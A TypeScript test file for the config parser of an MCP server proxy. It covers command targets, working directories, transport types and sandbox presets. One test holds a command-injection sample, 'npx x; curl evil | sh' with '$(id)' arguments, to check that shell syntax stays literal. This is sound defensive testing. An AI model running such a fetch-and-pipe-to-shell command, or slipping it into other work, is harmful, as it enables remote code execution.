import { homedir } from 'node:os'
import { join, resolve } from 'node:path'
import type { CommandTarget } from '@unfold-mcp/client'
import { describe, expect, test } from 'vitest'
import { settingsOf } from '../upstreams/config.ts'
import { parseConfig } from './read.ts'
import { isScriptServer } from './schema.ts'
import { targetOf } from './target.ts'
import { upstreamConfig } from './upstream.ts'

function target(server: unknown) {
  const { config } = parseConfig(JSON.stringify({ mcpServers: { a: server } }), { file: 'unfold.json', environment: {} })
  const { a } = config.mcpServers
  if (a === undefined || isScriptServer(a)) throw new Error('no server')
  return targetOf(a, resolve('/etc/unfold'))
}

test('a command runs in the folder of the configuration, or in its own, which may be relative to it', () => {
  expect(target({ command: 'x' })).toEqual({ command: 'x', args: [], env: {}, cwd: resolve('/etc/unfold') })
  expect(target({ command: 'x', cwd: 'sub' })).toMatchObject({ cwd: resolve('/etc/unfold/sub') })
  expect(target({ command: 'x', cwd: '/srv' })).toMatchObject({ cwd: resolve('/srv') })
})

test('shell syntax stays a single argument', () => {
  expect(target({ command: 'npx x; curl evil | sh', args: ['$(id)', '`id`'] })).toMatchObject({
    command: 'npx x; curl evil | sh',
    args: ['$(id)', '`id`'],
  })
})

test.each([
  [undefined, 'auto'],
  ['http', 'http'],
  ['streamable-http', 'http'],
  ['streamableHttp', 'http'],
  ['sse', 'sse'],
])('a URL of type %s uses %s', (type, transport) => {
  expect(target({ url: 'http://x/', ...(type !== undefined && { type }) })).toMatchObject({ transport, headers: {} })
})

test('the settings of a server become those of its upstream, including defaults', () => {
  const text = JSON.stringify({
    mcpServers: { a: { url: 'http://x/', start: 'lazy', sweepMs: 0 }, b: { command: 'x', disabled: true } },
  })
  const { a, b } = parseConfig(text, { file: 'unfold.json', environment: {} }).config.mcpServers
  if (a === undefined || b === undefined) throw new Error('no server')
  expect(settingsOf(upstreamConfig(a, { folder: '/', processes: 'tree' }))).toEqual({
    ...settingsOf({ target: { url: 'http://x/' } }),
    start: 'lazy',
    sweepMs: 0,
  })
  expect(upstreamConfig(b, { folder: '/', processes: 'tree' }).disabled).toBe(true)
})

describe('the sandbox of a server', () => {
  const folder = resolve('/etc/unfold')
  const sandboxIn = (all: unknown, own?: unknown, more: object = {}) => {
    const text = JSON.stringify({
      sandbox: all,
      mcpServers: { a: { command: 'x', ...more, ...(own !== undefined && { sandbox: own }) } },
    })
    const { config } = parseConfig(text, { file: 'unfold.json', environment: { NOTES: '/srv/notes' } })
    const { a } = config.mcpServers
    if (a === undefined || isScriptServer(a)) throw new Error('no server')
    const { sandbox } = targetOf(a, folder, { sandbox: config.sandbox }) as CommandTarget
    return sandbox
  }

  test('is that of the file, unless the server has its own; an object inherits the preset', () => {
    expect(sandboxIn('none')).toBeUndefined()
    expect(sandboxIn('strict')).toEqual({ preset: 'strict', read: [], write: [] })
    expect(sandboxIn('strict', 'none')).toBeUndefined()
    expect(sandboxIn({ preset: 'strict', read: ['a'] }, 'files')).toEqual({ preset: 'files', read: [], write: [] })
    expect(sandboxIn('files', { network: false })).toEqual({ preset: 'files', read: [], write: [], network: false })
  })

  test('has absolute paths: relative to the file, to the home folder, or from a variable', () => {
    expect(sandboxIn('strict', { read: ['a', '~/b'], write: [`\${NOTES}`] })).toEqual({
      preset: 'strict',
      read: [resolve(folder, 'a'), join(homedir(), 'b')],
      write: [resolve('/srv/notes')],
    })
  })

  test('includes a working directory that the server names, but not the home folder', () => {
    expect(sandboxIn('strict', undefined, { cwd: 'sub' })?.read).toEqual([resolve(folder, 'sub')])
    for (const cwd of [homedir(), resolve('/')]) expect(sandboxIn('strict', undefined, { cwd })?.read).toEqual([])
  })

  test('needs a preset for its folders, and known keys', () => {
    expect(() => sandboxIn('none', { write: ['a'] })).toThrow('needs "preset": "files" or "strict"')
    expect(() => sandboxIn({ network: false })).toThrow('needs "preset": "files" or "strict"')
    expect(() => sandboxIn('stict')).toThrow('Did you mean "strict"?')
    expect(() => sandboxIn('none', { preset: 'strict', writes: [] })).toThrow('Did you mean "write"?')
  })
})
